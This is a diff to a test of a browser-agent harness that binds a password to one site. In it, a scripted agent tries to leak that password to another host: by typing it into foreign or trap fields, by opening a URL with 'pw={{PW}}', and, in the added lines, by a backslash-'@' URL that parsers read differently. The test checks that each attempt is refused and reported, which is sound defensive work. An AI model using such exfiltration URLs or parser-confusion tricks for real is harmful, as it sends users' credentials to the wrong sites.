@@ -164,12 +164,15 @@ async def test_a_bound_secret_goes_only_to_its_site(browser_env, pages, tmp_path
     def typing(text: str, target: str | None) -> dict:
         return {"thought": "", "notes": "", "action": {"type": "type", "text": text, **({"target": target} if target else {})}}
     evil_goto = start.replace("127.0.0.1", "localhost").replace("secret_sites.html", "login.html?pw={{PW}}")
+    # a browser reads \ as / here: this opens localhost (Python's URL parser reads the host as 127.0.0.1)
+    slashed_goto = evil_goto.replace("/login.html", "\\@" + start.split("/")[2] + "/login.html")
     model = ScriptedModel(
         policy=[typing("{{PW}}", "the field in the frame"),
                 {"thought": "", "notes": "", "action": {"type": "goto", "url": evil_goto}},
                 typing("{{PW}}", "the password field"), typing("{{USER}}", "the field in the frame"),
                 typing("{{PW}}", "the trap field"), typing("{{PW}}", None),
                 typing("{{PW}}", "the field of the form that sends elsewhere"),
+                {"thought": "", "notes": "", "action": {"type": "goto", "url": slashed_goto}},
                 {"thought": "", "notes": "", "action": {"type": "answer", "text": "done"}}],
         localizer=[frame_field, field, frame_field, trap_field, sent_field],
     )
@@ -186,10 +189,11 @@ async def test_a_bound_secret_goes_only_to_its_site(browser_env, pages, tmp_path
     assert result.status == "success", result
     steps = [json.loads(line) for line in (tmp_path / "run" / "trajectory.jsonl").read_text().splitlines()]
     refused = [s["outcome"] for s in steps if s.get("outcome", {}).get("refused")]
-    assert [(o["secret"], o["host"]) for o in refused] == [("{{PW}}", "localhost")] * 5
+    assert [(o["secret"], o["host"]) for o in refused] == [("{{PW}}", "localhost")] * 6
     assert "the field that would take the keys is on localhost" in refused[0]["error"]
     assert "the page it opens is on localhost" in refused[1]["error"]
     assert "the form of the field sends it to a page that is on localhost" in refused[4]["error"]
+    assert "the page it opens is on localhost" in refused[5]["error"]
     assert "127.0.0.1" in steps[-1]["url"] and "pw=" not in steps[-1]["url"]  # the goto was not performed
     assert steps[2]["outcome"].get("error") is None and steps[3]["outcome"].get("error") is None
     # the trap field is on its site, but the page moved the focus to the frame after the click: checked again
@@ -207,5 +211,5 @@ async def test_a_bound_secret_goes_only_to_its_site(browser_env, pages, tmp_path
     history = "".join(p.text for m in model.requests[-1].messages for p in m.content if hasattr(p, "text"))
     assert "not performed: the secret {{PW}} belongs to 127.0.0.1" in history and VALUE not in history
     assert "{{PW}} (only into fields of 127.0.0.1), {{USER}}." in history  # told up front where each one goes
-    assert live.getvalue().count("refused: not performed: the secret {{PW}}") == 5  # and the person watching
-    assert (tmp_path / "run" / "report.html").read_text().count("refused: not performed: the secret {{PW}}") == 5
+    assert live.getvalue().count("refused: not performed: the secret {{PW}}") == 6  # and the person watching
+    assert (tmp_path / "run" / "report.html").read_text().count("refused: not performed: the secret {{PW}}") == 6
